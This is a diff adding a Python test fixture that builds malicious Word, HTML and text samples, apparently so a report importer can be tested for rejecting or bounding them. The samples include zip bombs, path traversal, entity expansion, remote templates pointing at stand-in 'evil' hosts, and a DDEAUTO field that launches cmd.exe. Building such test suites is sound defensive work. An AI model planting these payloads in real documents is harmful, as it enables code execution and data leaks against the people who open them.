@@ -1,0 +1,110 @@
+"""Published reports to be turned away, or to be read within bounds: name → (code or None, file name, how it is made)."""
+
+import io
+from functools import cache
+
+from docx import Document
+
+from tests.hostile import packages
+from tests.hostile.packages import MEBI, with_part
+from tests.rendering import text_of
+from tests.samples import good_filing
+from xl_tools.report.template import load
+from xl_tools.report.word import render
+
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+BODY, RELATIONS = "word/document.xml", "word/_rels/document.xml.rels"
+SETTINGS = "word/_rels/settings.xml.rels"
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
+ENTITY = b'<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
+START = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
+
+
+@cache
+def report():
+    """A good Word report."""
+    return render(good_filing(), load())
+
+
+@cache
+def text():
+    return text_of(good_filing(), "A")
+
+
+def part(name, content):
+    return lambda: with_part(report(), name, content)
+
+
+def related(kind, target, name=RELATIONS, mode=' TargetMode="External"'):
+    link = f'<Relationship Id="r99" Type="{OFFICE}/{kind}" Target="{target}"{mode}/></Relationships>'.encode()
+    return part(name, lambda old: (old or START).replace(b"</Relationships>", link))
+
+
+def body(change):
+    return part(BODY, lambda old: change(old.decode()).encode())
+
+
+def field_code(code):
+    return body(lambda text: text.replace("<w:body>", f"<w:body><w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p>", 1))
+
+
+def page(inside):
+    return lambda: f"<html><head><meta charset='utf-8'></head><body>{inside()}</body></html>".encode()  # noqa: PLW0108 - made only when it is needed
+
+
+def big_docx():
+    """A table of 300 rows by 300 columns."""
+    document = Document()
+    made = io.BytesIO()
+    document.save(made)
+    cell = "<w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>"
+    table = "<w:tbl>" + f"<w:tr>{cell * 300}</w:tr>" * 300 + "</w:tbl>"
+    return with_part(made.getvalue(), BODY, lambda old: old.replace(b"<w:sectPr", table.encode() + b"<w:sectPr", 1))
+
+
+DOCUMENTS = {
+    "文档压缩比过大": ("F-BOMB", "a.docx", part("word/media/a.xml", bytes(64 * MEBI))),
+    "文档条目重叠": ("F-BOMB", "a.docx", lambda: packages.overlapping(report())),
+    "文档条目上级目录": ("F-NAMES", "a.docx", lambda: packages.added(report(), "../../x.xml")),
+    "文档条目重名": ("F-NAMES", "a.docx", lambda: packages.added(report(), BODY)),
+    "文档定义": ("F-XML", "a.docx", part(BODY, lambda old: old.replace(b"<w:document", ENTITY + b"<w:document", 1))),
+    "文档定义UTF16": ("F-XML", "a.docx", part("word/styles.xml", lambda _: ("<?xml version='1.0' encoding='UTF-16'?>" + ENTITY.decode() + "<a/>").encode("utf-16"))),
+    "远程模板": ("F-EXTERNAL", "a.docx", related("attachedTemplate", "http://x/evil.dotm", SETTINGS)),
+    "远程模板UNC": ("F-EXTERNAL", "a.docx", related("attachedTemplate", "\\\\evil\\share\\a.dotm", SETTINGS)),
+    "远程模板file": ("F-EXTERNAL", "a.docx", related("attachedTemplate", "file://evil.example/share/a.dotm", SETTINGS)),
+    "外部框架": ("F-EXTERNAL", "a.docx", related("frame", "http://x/a.html")),
+    "外部对象": ("F-EXTERNAL", "a.docx", related("oleObject", "http://x/a.rtf")),
+    "插入文件": ("F-EXTERNAL", "a.docx", related("aFChunk", "a.html", mode="")),
+    "子文档": ("F-EXTERNAL", "a.docx", related("subDocument", "a.docx")),
+    "动态数据交换域": ("F-EXTERNAL", "a.docx", field_code("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe")),
+    "包含文本域": ("F-EXTERNAL", "a.docx", field_code(" INCLUDETEXT file.docx")),
+    "文档宏": ("F-MACRO", "a.docx", part("word/vbaProject.bin", b"x")),
+    "文档宏docm": ("F-MACRO", "a.docm", part("word/vbaProject.bin", b"x")),
+    "文档嵌入对象": ("F-OBJECT", "a.docx", part("word/embeddings/oleObject1.bin", OLE)),
+    "文档控件": ("F-OBJECT", "a.docx", part("word/activeX/activeX1.bin", b"x")),
+    "文档加密": ("F-ENCRYPTED", "a.docx", lambda: OLE + "EncryptedPackage".encode("utf-16-le")),
+    "文档截断": ("F-BROKEN", "a.docx", lambda: report()[: len(report()) // 2]),
+    "文档改动一个字节": ("F-BROKEN", "a.docx", lambda: packages.flipped(report(), 0.3)),
+    "文档嵌套过深": ("F-BROKEN", "a.docx", body(lambda text: text.replace("<w:body>", "<w:body>" + "<w:sdt><w:sdtContent>" * 5_000 + "</w:sdtContent></w:sdt>" * 5_000, 1))),
+    "空的文本": ("F-EMPTY", "a.txt", lambda: b"\n\n"),
+    "无表的文本": ("F-NOT-REPORT", "a.txt", "这里没有表格。".encode),
+    "二进制": ("F-NOT-REPORT", "a.txt", lambda: b"\x7fELF" + bytes(range(256)) * 20),
+    "图片": ("F-NOT-REPORT", "a.pdf", lambda: b"\x89PNG\r\n\x1a\n" + bytes(100)),
+    "假的PDF": ("F-BROKEN", "a.pdf", lambda: b"%PDF-1.7\n" + bytes(2_000)),
+    "网页太大": ("F-BOMB", "a.html", lambda: b"<html><body>" + b"<p>x</p>" * (3 * MEBI) + b"</body></html>"),
+    "文本太大": ("F-BOMB", "a.txt", lambda: "长".encode() * (3 * MEBI)),
+}  # fmt: skip
+BOUNDED = {
+    "跨列过大": ("a.html", page(lambda: "<table>" + "<tr><td colspan=99999999 rowspan=99999999>1</td><td>2</td></tr>" * 200 + "</table>" + text())),
+    "百万单元格": ("a.html", page(lambda: "<table>" + ("<tr>" + "<td>1" * 1_000) * 1_000 + "</table>")),
+    "网页嵌套过深": ("a.html", page(lambda: "<div>" * 100_000 + "1" + "<table><tr><td>" * 3_000)),
+    "网页不收尾": ("a.html", lambda: b"<html><body><table><tr><td" * 20_000),
+    "注释不收尾": ("a.html", lambda: b"<html><!--" + b"<!--" * 200_000),
+    "大表格": ("a.docx", big_docx),
+    "一行很长": ("a.txt", ("一、" + "（一）" * 200_000).encode),
+    "全是数字": ("a.txt", ("1 " * 300_000).encode),
+    "全是竖线": ("a.md", lambda: ("|" * 2_000 + "\n").encode() * 500),
+    "空格很多": ("a.txt", lambda: text().encode().replace(b"\n", b"\n" + b" " * 3_000)),
+    "括号很多": ("a.txt", lambda: text().encode() + b"(" * 100_000 + b")" * 100_000),
+}  # fmt: skip
+"""Costly where they are read carelessly; whether anything is found in them does not matter."""
